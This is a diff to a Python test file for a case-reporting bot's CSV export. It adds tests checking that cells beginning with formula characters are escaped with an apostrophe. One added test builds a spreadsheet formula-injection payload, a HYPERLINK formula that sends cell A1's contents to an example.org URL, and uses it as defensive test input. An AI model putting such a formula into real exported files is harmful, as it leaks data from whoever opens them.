@@ -4,6 +4,8 @@ from __future__ import annotations
 
 import datetime as dt
 
+import pytest
+
 from bot.sandbox.html_check import visible_text
 from conversations.caserecord import CaseRow
 from conversations.casework import case_clock, shipped_casework, similarity
@@ -73,8 +75,16 @@ def test_visibility_rule() -> None:
 def test_csv_identity_only_for_open_reports() -> None:
     open_case = case(1, identity="open", reporter_name="Joko", reporter_phone="+62811")
     secret = case(2, identity="confidential", reporter_name="Sri", reporter_phone="+62812")
-    assert csv_row(open_case, J)[-2:] == ["Joko", "+62811"]
+    assert csv_row(open_case, J)[-2:] == ["Joko", "'+62811"]
     assert csv_row(secret, J)[-2:] == ["", ""]
+
+
+@pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t", "\r"])
+def test_csv_cells_never_run_as_formulas(start: str) -> None:
+    evil = f'{start}HYPERLINK("http://example.org/?x="&A1,"klik")'
+    row = csv_row(case(1, identity="open", reporter_name=evil, reporter_phone="+62811"), J)
+    assert row[-2] == "'" + evil
+    assert all(not str(cell).startswith(("=", "+", "-", "@", "\t", "\r")) for cell in row)
 
 
 def test_working_days_and_similarity() -> None:
